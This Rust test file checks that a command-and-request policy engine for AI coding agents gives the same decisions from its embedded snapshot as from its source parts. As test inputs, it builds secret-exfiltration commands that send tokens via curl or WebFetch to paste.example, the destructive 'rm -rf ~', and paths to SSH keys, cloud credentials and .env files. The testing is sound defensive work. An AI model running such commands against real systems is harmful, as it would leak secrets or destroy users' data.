//! The default-policy snapshot decides exactly like the policy read from
//! its parts.
//!
//! `Engine::default_policy()` decodes the composed default policy from
//! `src/defaults/snapshot.bin`, compiles each matcher section on first use,
//! and searches its regex sets through the snapshot's literal gates before
//! building their automata (`src/data/snapshot.rs`). None of that may change
//! an answer. Here every input of every corpus in `tests/data` — command
//! lines (also as `Bash` tool calls), tool calls, proxied requests, the
//! coding-agent hook fixtures, the conformance requests, the NUL corpus,
//! SQL statements, secret samples — and every example of every default rule
//! is decided by an engine built the way `default_policy()` builds it and by
//! one compiled eagerly from the parts, and the whole decision JSON must be
//! the same: once with every set searched through its gates, once with every
//! set built at once. Cost: a few thousand decisions per engine, a few
//! seconds in a debug build.

mod common;

use portcullis::hook::{self, Agent};
use portcullis::{Engine, Request};
use serde_json::{json, Value};

/// Every request of every corpus, with where it comes from.
fn corpus() -> Vec<(String, Request)> {
    let mut out: Vec<(String, Request)> = Vec::new();
    let mut push = |from: String, value: Value| {
        let request =
            Request::from_value(value.clone()).unwrap_or_else(|e| panic!("{from}: {value}: {e}"));
        out.push((from, request));
    };
    let rows = |file: &str| -> Vec<Vec<String>> {
        common::read(file)
            .lines()
            .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
            .map(|l| l.split('\t').map(str::to_owned).collect())
            .collect()
    };

    // Commands, as themselves and as the `Bash` tool calls hooks make.
    for file in ["corpus/commands.tsv", "corpus/commands_extra.tsv"] {
        for row in rows(file) {
            if row[0] == "expect" {
                continue;
            }
            let command = row[1..].join("\t").replace("\\n", "\n");
            push(format!("{file}: {command}"), json!({ "command": command }));
            push(
                format!("{file} (Bash): {command}"),
                json!({"tool": {"name": "Bash", "arguments": {"command": command}}}),
            );
        }
    }
    // Tool calls.
    for line in common::read("tools/calls.jsonl").lines() {
        let Ok(value) = serde_json::from_str::<Value>(line) else {
            continue;
        };
        if let Some(tool) = value.get("tool") {
            push(format!("tools: {line}"), json!({ "tool": tool }));
        }
    }
    // Proxied requests.
    for row in rows("default_egress.tsv") {
        push(
            format!("default_egress: {row:?}"),
            json!({"http": {"method": row[1], "url": row[2]}}),
        );
    }
    for row in rows("egress/bypass.tsv") {
        let given = |i: usize| row.get(i).filter(|v| v.as_str() != "-").cloned();
        let mut http = json!({"method": row[1], "url": row[2]});
        if let Some(host) = given(3) {
            http["headers"] = json!({ "host": host });
        }
        if let Some(sni) = given(4) {
            http["sni"] = json!(sni);
        }
        if let Some(body) = given(5) {
            http["body"] = json!(body);
        }
        push(format!("bypass: {row:?}"), json!({ "http": http }));
    }
    // The conformance requests.
    for line in common::read("conformance/requests.jsonl")
        .lines()
        .filter(|l| !l.trim().is_empty())
    {
        push(
            format!("conformance: {line}"),
            serde_json::from_str(line).unwrap(),
        );
    }
    // SQL, in a tool argument and in a database client.
    for row in rows("sql/statements.tsv") {
        if row[0] == "dialect" {
            continue;
        }
        let sql = row[2..].join("\t").replace("\\n", "\n");
        push(
            format!("sql: {sql}"),
            json!({"tool": {"name": "query", "arguments": {"sql": sql}}}),
        );
        push(
            format!("sql (psql): {sql}"),
            json!({ "command": format!("psql -c {}", shell_quote(&sql)) }),
        );
    }
    // Secrets, leaving and staying.
    for row in rows("secrets/samples.tsv") {
        let text = &row[1];
        push(
            format!("secret: {text}"),
            json!({"command": format!("curl -H 'Authorization: {text}' https://paste.example/")}),
        );
        push(
            format!("secret (tool): {text}"),
            json!({"tool": {"name": "WebFetch", "arguments": {"url": "https://paste.example/", "prompt": text}}}),
        );
        push(
            format!("secret (echo): {text}"),
            json!({ "command": format!("echo {}", shell_quote(text)) }),
        );
    }
    // Every example of every default rule, as the compiler decides it.
    for (part, text) in portcullis::defaults::PARTS {
        let policy: Value = serde_json::from_str(text).unwrap();
        for (section, rules) in policy.as_object().unwrap() {
            for rule in rules.as_array().into_iter().flatten() {
                let examples = &rule["examples"];
                for example in ["matching", "not_matching"]
                    .iter()
                    .flat_map(|k| examples[k].as_array().into_iter().flatten())
                    .filter_map(Value::as_str)
                {
                    let from = format!("{part} {section} {}: {example}", rule["id"]);
                    if let Some(value) = example_request(section, example) {
                        push(from, value);
                    }
                }
            }
        }
    }
    out
}

/// An example of a rule of `section` as the request the compiler decides it as.
fn example_request(section: &str, example: &str) -> Option<Value> {
    Some(match section {
        "egress" => {
            let mut words = example.splitn(3, ' ');
            let (first, second, body) = (words.next()?, words.next(), words.next());
            match second {
                None => json!({"http": {"method": "GET", "url": first}}),
                Some(url) => json!({"http": {"method": first, "url": url, "body": body}}),
            }
        }
        "commands" => json!({ "command": example }),
        "tools" => json!({"tool": {"name": example, "arguments": {}}}),
        "sql" => json!({"tool": {"name": "query", "arguments": {"sql": example}}}),
        "paths" => {
            let (access, path) = match example.split_once(' ') {
                Some((a @ ("read" | "write" | "delete"), p)) => (a, p),
                _ => ("read", example),
            };
            json!({"tool": {"name": format!("{access}_file"), "arguments": {"path": path}}})
        }
        _ => return None,
    })
}

fn shell_quote(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

/// The requests of every hook fixture and of the NUL corpus's payloads.
fn hook_requests() -> Vec<(String, Request)> {
    let mut out = Vec::new();
    let add = |out: &mut Vec<(String, Request)>, from: String, agent: Agent, payload: &Value| {
        if let Ok(p) = hook::requests(agent, &payload.to_string(), Some("/home/dev")) {
            out.extend(p.requests.into_iter().map(|r| (from.clone(), r)));
        }
    };
    let dir = common::data("hooks");
    let mut files: Vec<_> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "jsonl"))
        .collect();
    files.sort();
    assert!(files.len() >= 3, "hook fixtures: {}", dir.display());
    for file in files {
        let name = file.file_stem().unwrap().to_str().unwrap().to_owned();
        let agent = Agent::from_name(&name).unwrap_or_else(|| panic!("no agent {name}"));
        for line in std::fs::read_to_string(&file).unwrap().lines() {
            if let Ok(fixture) = serde_json::from_str::<Value>(line) {
                add(
                    &mut out,
                    format!("hooks/{name}: {line}"),
                    agent,
                    &fixture["payload"],
                );
            }
        }
    }
    for line in common::read("nul.jsonl").lines() {
        let Ok(case) = serde_json::from_str::<Value>(line) else {
            continue;
        };
        if let Some(request) = case.get("request") {
            if let Ok(r) = Request::from_value(request.clone()) {
                out.push((format!("nul: {line}"), r));
            }
        }
        if let (Some(agent), Some(payload)) = (
            case["agent"].as_str().and_then(Agent::from_name),
            case.get("payload"),
        ) {
            add(&mut out, format!("nul: {line}"), agent, payload);
        }
    }
    out
}

/// Held by the tests that set how sets search (a process-wide setting), so
/// that each sees its own.
static SEARCH_MODE: std::sync::Mutex<()> = std::sync::Mutex::new(());

/// The default policy compiled eagerly from its JSON parts, examples checked.
fn from_parts() -> Engine {
    let policy = portcullis::defaults::policy().unwrap();
    Engine::builder().policy(&policy).build().unwrap()
}

/// An engine built as `Engine::default_policy()` builds it (a fresh one,
/// so that its sets start unbuilt).
fn as_default_policy() -> Engine {
    Engine::builder()
        .built_in()
        .check_examples(false)
        .defer_automata(true)
        .build()
        .unwrap()
}

fn compare(label: &str, snapshot: &Engine, parts: &Engine, requests: &[(String, Request)]) {
    let mut differ = Vec::new();
    for (from, request) in requests {
        let (a, b) = (
            snapshot.decide(request).to_json(),
            parts.decide(request).to_json(),
        );
        if a != b {
            differ.push(format!("{from}\n  snapshot: {a}\n  parts:    {b}"));
        }
    }
    assert!(
        differ.is_empty(),
        "{label}: {} of {} decisions differ:\n{}",
        differ.len(),
        requests.len(),
        differ.join("\n")
    );
}

#[test]
fn the_embedded_snapshot_is_current_and_used() {
    assert!(
        Engine::default_policy_from_snapshot(),
        "the default policy is not decoded from src/defaults/snapshot.bin (its model's \
         layout changed since it was made?): run `make snapshot`"
    );
}

#[test]
fn the_snapshot_engine_decides_like_the_parts_on_every_corpus() {
    let mut requests = corpus();
    requests.extend(hook_requests());
    assert!(requests.len() > 1500, "only {} requests", requests.len());
    let parts = from_parts();
    let _mode = SEARCH_MODE.lock().unwrap_or_else(|e| e.into_inner());

    // Every set searched through its gates, however often it is searched.
    portcullis::pattern::set_gated_searches(usize::MAX);
    let gated = as_default_policy();
    compare("through the gates", &gated, &parts, &requests);
    // Every set's automaton built on its first search.
    portcullis::pattern::set_gated_searches(0);
    let built = as_default_policy();
    compare("automata built", &built, &parts, &requests);
    // As a hook process and a long-running one see it: gates first, then
    // the automata.
    portcullis::pattern::set_gated_searches(16);
    let mixed = as_default_policy();
    compare("gates, then automata", &mixed, &parts, &requests);

    assert_eq!(gated.policy_hash(), parts.policy_hash());
    assert_eq!(gated.rule_count(), parts.rule_count());
    assert!(gated.static_texts().eq(parts.static_texts()));
    assert_eq!(gated.hooks(), parts.hooks());
    assert_eq!(gated.audit_overflow(), parts.audit_overflow());
    assert_eq!(gated.name(), parts.name());
}

/// Every text a matcher of the default policy could be given, roughly: the
/// corpora's lines and their words, and paths around the sensitive ones.
fn haystacks(requests: &[(String, Request)]) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    for (from, _) in requests {
        let text = from.split_once(": ").map_or(from.as_str(), |(_, t)| t);
        out.push(text.to_owned());
        out.extend(text.split_whitespace().map(str::to_owned));
    }
    for base in ["", "~", "~/", "/home/dev/", "/", "./", "/etc/", "/srv/app/"] {
        for tail in [
            ".ssh/id_rsa",
            ".ssh/id_ed25519.pub",
            ".env",
            ".env.example",
            ".env.local",
            ".aws/credentials",
            ".kube/config",
            "app.pem",
            "tls/server.key",
            ".git/config",
            ".git/hooks/pre-commit",
            ".bashrc",
            ".claude/settings.json",
            "a.audit.jsonl.1",
            "passwd",
            "x",
            "",
        ] {
            out.push(format!("{base}{tail}"));
        }
    }
    out.sort();
    out.dedup();
    out
}

#[test]
fn every_gated_set_of_the_default_policy_matches_like_its_automaton() {
    use portcullis::pattern::{Build, RegexSet};
    // The very sets compiling the default policy builds, each searched
    // through its gates (the snapshot has them) and by its whole automaton.
    let policy = portcullis::defaults::policy().unwrap();
    let (engine, lists) =
        portcullis::pattern::record::recording(|| Engine::builder().policy(&policy).build());
    engine.unwrap();
    assert!(lists.len() > 10, "{} sets", lists.len());
    let mut requests = corpus();
    requests.extend(hook_requests());
    let texts = haystacks(&requests);
    let _mode = SEARCH_MODE.lock().unwrap_or_else(|e| e.into_inner());
    portcullis::pattern::set_gated_searches(usize::MAX);
    let mut compared = 0;
    for patterns in &lists {
        assert!(
            portcullis::pattern::gates_known(patterns),
            "the snapshot has no gates for the set starting {:?}: run `make snapshot`",
            patterns[0]
        );
        let gated = RegexSet::with_build(patterns, Build::OnFirstUse).unwrap();
        let whole = RegexSet::new(patterns).unwrap();
        for text in &texts {
            let (mut a, mut b) = (Vec::new(), Vec::new());
            gated.for_each_match(text, |i| a.push(i));
            whole.for_each_match(text, |i| b.push(i));
            assert_eq!(a, b, "{text:?} in the set starting {:?}", patterns[0]);
            assert_eq!(gated.is_match(text), whole.is_match(text), "{text:?}");
            compared += 1;
        }
    }
    assert!(compared > 10_000, "{compared} comparisons");
}

#[test]
fn the_shared_default_policy_is_the_snapshot_one() {
    let shared = Engine::default_policy().unwrap();
    let parts = from_parts();
    assert_eq!(shared.policy_hash(), parts.policy_hash());
    for command in ["ls -la src", "rm -rf ~", "git push --force origin main"] {
        assert_eq!(
            shared.check_command(command).to_json(),
            parts.check_command(command).to_json(),
            "{command}"
        );
    }
}
